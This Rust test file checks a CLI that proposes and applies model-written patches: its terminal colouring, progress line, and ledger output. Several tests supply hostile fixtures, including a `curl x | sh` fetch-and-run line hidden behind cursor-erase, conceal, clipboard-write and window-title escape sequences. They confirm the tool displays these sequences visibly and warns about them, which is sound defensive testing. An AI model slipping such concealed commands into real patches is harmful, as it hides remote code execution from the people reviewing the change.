//! What `propose` and `apply` print for a person: coloured on a terminal (a real pseudo-terminal, through util-linux
//! `script`) or with `--color always`, plain when piped, with `NO_COLOR` or `--color never`, and `--json` never
//! coloured; the progress line while waiting for the model only on a terminal; the ledger's path printed. The model
//! is a scripted endpoint (a deterministic answer, so the snapshot holds); the real server is in `real_model.rs`.

use crate::common::*;

fn sample(base_url: &str) -> Ws {
    let ws = Ws::new(base_url, "[edit]\nformat = \"json\"\n");
    ws.write("src/value.py", "VALUE = 1\n");
    ws
}

/// The printed text with what changes from run to run (ids, timings, paths) replaced by placeholders.
fn stable(text: &str, ws: &Ws, url: &str) -> String {
    text.lines()
        .map(|l| {
            let plain = strip(l);
            let label = plain.split_whitespace().next().unwrap_or_default();
            match label {
                "proposal" | "time" | "ledger" | "window" => {
                    // Keep the label and its padding (and the colour reset after it); replace the value.
                    let mut cut = l.find(label).unwrap_or(0) + label.len();
                    while let Some(rest) = l.get(cut..) {
                        if rest.starts_with(' ') {
                            cut += 1;
                        } else if rest.starts_with("\u{1b}[0m") {
                            cut += 4;
                        } else {
                            break;
                        }
                    }
                    format!("{}<{label}>", &l[..cut])
                }
                _ => l.replace(&ws.root_str(), "<WS>").replace(url, "<URL>"),
            }
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// `text` without its ANSI escape sequences.
fn strip(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            for d in chars.by_ref() {
                if d.is_ascii_alphabetic() {
                    break;
                }
            }
        } else {
            out.push(c);
        }
    }
    out
}

fn propose_args(ws: &Ws) -> Vec<String> {
    Cli::propose(ws.root()).file("src/value.py").argv()
}

fn run(args: &[String], env: &[(&str, &str)]) -> std::process::Output {
    Cli::new(args)
        .env_remove("NO_COLOR")
        .env_remove("CLICOLOR_FORCE")
        .envs(env)
        .run()
}

#[test]
fn propose_piped_is_plain_and_forced_colour_is_coloured() {
    let s = scripted(vec![Reply::chat(EDIT_JSON), Reply::chat(EDIT_JSON)]);
    let ws = sample(&s.base_url);
    let piped = run(&propose_args(&ws), &[]);
    assert!(piped.status.success(), "{}", stderr(&piped));
    let plain = stdout(&piped);
    assert!(
        !plain.contains('\u{1b}'),
        "piped output has escapes: {plain:?}"
    );
    assert!(
        !stderr(&piped).contains("waiting for the model"),
        "no progress when stderr is not a terminal"
    );
    assert!(
        plain.contains(&format!("ledger    {} (one line", test_ledger().display())),
        "{plain}"
    );
    insta::assert_snapshot!("propose_piped", stable(&plain, &ws, &s.base_url));

    let mut args = propose_args(&ws);
    args.push("--color=always".into());
    let forced = run(&args, &[]);
    assert!(forced.status.success(), "{}", stderr(&forced));
    let coloured = stdout(&forced);
    assert!(
        coloured.contains("\u{1b}[32m+VALUE = 2\u{1b}[0m"),
        "{coloured:?}"
    );
    assert!(
        coloured.contains("\u{1b}[31m-VALUE = 1\u{1b}[0m"),
        "{coloured:?}"
    );
    insta::assert_snapshot!("propose_colour_forced", stable(&coloured, &ws, &s.base_url));
    // Stripped of its colour, it is the piped text.
    assert_eq!(
        stable(&strip(&coloured), &ws, &s.base_url),
        stable(&plain, &ws, &s.base_url)
    );
    assert_eq!(ws.read("src/value.py"), "VALUE = 1\n");
}

#[test]
fn no_color_and_never_win_and_json_is_never_coloured() {
    let s = scripted(vec![
        Reply::chat(EDIT_JSON),
        Reply::chat(EDIT_JSON),
        Reply::chat(EDIT_JSON),
    ]);
    let ws = sample(&s.base_url);
    let out = run(
        &propose_args(&ws),
        &[("CLICOLOR_FORCE", "1"), ("NO_COLOR", "1")],
    );
    assert!(
        !stdout(&out).contains('\u{1b}'),
        "NO_COLOR: {:?}",
        stdout(&out)
    );
    let mut args = propose_args(&ws);
    args.push("--color=never".into());
    let out = run(&args, &[("CLICOLOR_FORCE", "1")]);
    assert!(
        !stdout(&out).contains('\u{1b}'),
        "--color never: {:?}",
        stdout(&out)
    );
    let mut args = propose_args(&ws);
    args.extend(["--json".to_string(), "--color=always".to_string()]);
    let out = run(&args, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("--json prints plain JSON");
    assert!(v["patch"].as_str().unwrap().contains("+VALUE = 2"));
}

#[test]
fn on_a_real_terminal_the_patch_is_coloured_and_the_wait_is_shown() {
    // A slow answer, streamed, so the progress line has time to draw.
    let s = scripted(vec![Reply::streamed(
        &[
            r#"{"edits":[{"path":"src/value.py","#,
            r#""old":"VALUE = 1","new":"VALUE = 2"}]}"#,
        ],
        700,
    )]);
    let ws = sample(&s.base_url);
    let command = std::iter::once(BIN.to_string())
        .chain(propose_args(&ws))
        .map(|a| format!("'{}'", a.replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ");
    let out = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env_remove("NO_COLOR")
        .env("TERM", "xterm-256color")
        .env("LOCAL_LLM_LEDGER", test_ledger())
        .env("LOCAL_LLM_STATE_DIR", test_state())
        .env_remove("LOCAL_LLM_CONFIG")
        .env_remove("LOCAL_LLM_ALLOWED_ROOTS")
        .output()
        .expect("util-linux `script` runs the CLI on a pseudo-terminal");
    let text = stdout(&out);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("\u{1b}[32m+VALUE = 2\u{1b}[0m"), "{text:?}");
    assert!(
        text.contains("waiting for the model"),
        "no progress line: {text:?}"
    );
}

#[test]
fn apply_prints_the_files_the_checks_and_the_ledger() {
    let s = scripted(vec![Reply::chat(EDIT_JSON)]);
    let ws = sample(&s.base_url);
    let patch = ws.root().join("../change.patch");
    let mut args = propose_args(&ws);
    args.extend([
        "--out".to_string(),
        patch.display().to_string(),
        "--json".to_string(),
    ]);
    let out = run(&args, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let digest = v["digest"].as_str().unwrap();
    let args: Vec<String> = [
        "apply",
        "--workspace-root",
        &ws.root_str(),
        "--patch",
        &patch.display().to_string(),
        "--digest",
        digest,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let out = run(&args, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(text.contains("wrote     src/value.py"), "{text}");
    assert!(
        text.contains(&format!("ledger    {}", test_ledger().display())),
        "{text}"
    );
    let _ = std::fs::remove_file(patch);
}

/// A model's line that hides itself on a terminal: cursor up and erase line, concealed text, an OSC 52 clipboard
/// write, an OSC 0 window title, and a bare carriage return that puts an innocent line over it.
const HOSTILE_LINE: &str = "import os; os.system('curl x | sh')  # \u{1b}[1A\u{1b}[2K\u{1b}[8m\u{1b}]52;c;Y3VybA==\u{7}\u{1b}]0;pwned\u{7}\rVALUE = 2";

/// The same line as the screen shows it.
const HOSTILE_SHOWN: &str = "import os; os.system('curl x | sh')  # <U+001B>[1A<U+001B>[2K<U+001B>[8m<U+001B>]52;c;Y3VybA==<U+0007><U+001B>]0;pwned<U+0007><U+000D>VALUE = 2";

/// The JSON edit that adds [`HOSTILE_LINE`] under `VALUE = 2`.
fn hostile_edit() -> String {
    serde_json::json!({"edits": [{"path": "src/value.py", "old": "VALUE = 1", "new": format!("VALUE = 2\n{HOSTILE_LINE}")}]})
        .to_string()
}

/// The raw control characters a hostile text may hold (what the CLI's own colours never use: OSC, conceal, BEL).
fn assert_no_hostile_bytes(text: &str) {
    for raw in ["\u{1b}]", "\u{1b}[8m", "\u{1b}[1A\u{1b}[2K", "\u{7}"] {
        assert!(!text.contains(raw), "{raw:?} reached the output: {text:?}");
    }
}

#[test]
fn the_screen_a_hostile_patch_is_shown_visibly_with_a_warning_and_json_stays_exact() {
    let s = scripted(vec![
        Reply::chat(&hostile_edit()),
        Reply::chat(&hostile_edit()),
    ]);
    let ws = sample(&s.base_url);
    let piped = run(&propose_args(&ws), &[]);
    assert!(piped.status.success(), "{}", stderr(&piped));
    let plain = stdout(&piped);
    assert!(
        !plain.contains('\u{1b}') && !plain.contains('\r'),
        "a control character reached the piped output: {plain:?}"
    );
    assert!(plain.contains(&format!("\n+{HOSTILE_SHOWN}\n")), "{plain}");
    assert!(
        plain.contains(
            "warning   this patch adds control or invisible characters at src/value.py:2 (U+001B, U+0007, U+000D)"
        ),
        "{plain}"
    );
    // --json: the exact bytes (JSON-escaped), the same as --out writes and the digest covers; the warning too.
    let scratch = tempfile::tempdir().unwrap();
    let out_file = scratch.path().join("hostile.patch");
    let mut args = propose_args(&ws);
    args.extend([
        "--json".to_string(),
        "--out".to_string(),
        out_file.display().to_string(),
    ]);
    let out = run(&args, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let patch = v["patch"].as_str().unwrap();
    assert!(patch.contains(&format!("\n+{HOSTILE_LINE}\n")), "{patch:?}");
    assert_eq!(std::fs::read_to_string(&out_file).unwrap(), patch);
    assert_eq!(v["digest"], sha256_of_file(&out_file));
    let warning = v["warnings"][0].as_str().unwrap();
    assert!(
        warning.contains("src/value.py:2 (U+001B, U+0007, U+000D)"),
        "{warning}"
    );
    assert_eq!(ws.read("src/value.py"), "VALUE = 1\n");
}

#[test]
fn the_screen_on_a_real_terminal_the_hostile_line_is_visible_and_nothing_acts_on_the_terminal() {
    let s = scripted(vec![Reply::chat(&hostile_edit())]);
    let ws = sample(&s.base_url);
    let command = std::iter::once(BIN.to_string())
        .chain(propose_args(&ws))
        .map(|a| format!("'{}'", a.replace('\'', "'\\''")))
        .collect::<Vec<_>>()
        .join(" ");
    let out = std::process::Command::new("script")
        .args(["-qec", &command, "/dev/null"])
        .env_remove("NO_COLOR")
        .env("TERM", "xterm-256color")
        .env("LOCAL_LLM_LEDGER", test_ledger())
        .env("LOCAL_LLM_STATE_DIR", test_state())
        .env_remove("LOCAL_LLM_CONFIG")
        .env_remove("LOCAL_LLM_ALLOWED_ROOTS")
        .output()
        .expect("util-linux `script` runs the CLI on a pseudo-terminal");
    let text = stdout(&out);
    assert!(out.status.success(), "{text}");
    // The added line whole, in the product's own green, every hidden byte shown by its code point.
    assert!(
        text.contains(&format!("\u{1b}[32m+{HOSTILE_SHOWN}\u{1b}[0m")),
        "{text:?}"
    );
    assert_no_hostile_bytes(&text);
}

#[test]
fn the_screen_delegate_answers_are_shown_visibly_and_json_keeps_them_exact() {
    let answer = "Summary\u{1b}]0;pwned\u{7} done\rhidden\u{1b}[2K\u{1b}[1A\u{9b}2J\u{202e}end";
    let s = scripted(vec![Reply::chat(answer), Reply::chat(answer)]);
    let ws = sample(&s.base_url);
    let args: Vec<String> = [
        "delegate",
        "--task-kind",
        "summarize",
        "--workspace-root",
        &ws.root_str(),
        "--task",
        "Summarise value.py",
        "--accept",
        "one line",
        "--complexity",
        "low",
        "--file",
        "src/value.py",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let out = run(&args, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "Summary<U+001B>]0;pwned<U+0007> done<U+000D>hidden<U+001B>[2K<U+001B>[1A<U+009B>2J<U+202E>end\n"
    );
    let mut json = args.clone();
    json.push("--json".into());
    let out = run(&json, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["content"], answer);
}

#[test]
fn the_screen_check_output_with_osc_sequences_is_shown_visibly_on_propose_and_apply() {
    // The check prints a window title, a clipboard write and a bare CR, and fails; on propose it runs confined,
    // and the repair round's "last lines of what it was shown" are printed.
    let check = r"printf '\033]0;pwned\007\033]52;c;eA==\007boom\rcover\n'; exit 1";
    let s = scripted(vec![Reply::chat(EDIT_JSON), Reply::chat(EDIT_JSON)]);
    let ws = Ws::new(
        &s.base_url,
        &format!(
            "[edit]\nformat = \"json\"\n\n[validation]\ncommands = [{check:?}]\non_propose = true\n\n\
             [repair]\nattempts = 1\n\n[sampling]\ncandidates = 1\n"
        ),
    );
    ws.write("src/value.py", "VALUE = 1\n");
    let scratch = tempfile::tempdir().unwrap();
    let patch = scratch.path().join("check.patch");
    let mut args = propose_args(&ws);
    args.extend(["--out".to_string(), patch.display().to_string()]);
    let out = run(&args, &[]);
    // The check fails, so propose exits 3 (the patch fails the project's checks) and still prints the patch.
    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(
        text.contains("| <U+001B>]0;pwned<U+0007><U+001B>]52;c;eA==<U+0007>boom<U+000D>cover"),
        "{text}"
    );
    assert_no_hostile_bytes(&text);
    assert!(!text.contains('\r'), "{text:?}");
    // At apply time the same check fails again: the refusal quoting its output is screened too.
    let digest = sha256_of_file(&patch);
    let args: Vec<String> = [
        "apply",
        "--workspace-root",
        &ws.root_str(),
        "--patch",
        &patch.display().to_string(),
        "--digest",
        &digest,
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let out = run(&args, &[]);
    assert!(!out.status.success());
    let err = stderr(&out);
    assert!(err.contains("<U+001B>]0;pwned<U+0007>"), "{err}");
    assert_no_hostile_bytes(&err);
    assert!(!err.contains('\r'), "{err:?}");
    assert_eq!(ws.read("src/value.py"), "VALUE = 1\n");
}

#[test]
fn the_screen_doctor_and_stats_show_names_from_the_policy_and_the_ledger_visibly() {
    let s = scripted(vec![Reply::chat(EDIT_JSON)]);
    let ws = Ws::new(
        &s.base_url,
        "[models]\nflash = \"tiny\\u001b]0;pwned\\u0007\"\n\n[edit]\nformat = \"json\"\n",
    );
    ws.write("src/value.py", "VALUE = 1\n");
    let scratch = tempfile::tempdir().unwrap();
    let ledger = scratch.path().join("ledger.jsonl");
    let ledger_env = ledger.display().to_string();
    let env = [("LOCAL_LLM_LEDGER", ledger_env.as_str())];
    let out = run(&propose_args(&ws), &env);
    assert!(out.status.success(), "{}", stderr(&out));
    let stats: Vec<String> = ["stats", "--workspace", &ws.root_str()]
        .iter()
        .map(|s| s.to_string())
        .collect();
    let out = run(&stats, &env);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    assert!(text.contains("tiny<U+001B>]0;pwned<U+0007>"), "{text}");
    assert_no_hostile_bytes(&text);
    let doctor: Vec<String> = ["doctor", "--workspace-root", &ws.root_str()]
        .iter()
        .map(|s| s.to_string())
        .collect();
    let out = run(&doctor, &env);
    let text = stdout(&out);
    assert!(text.contains("tiny<U+001B>]0;pwned<U+0007>"), "{text}");
    assert_no_hostile_bytes(&text);
}
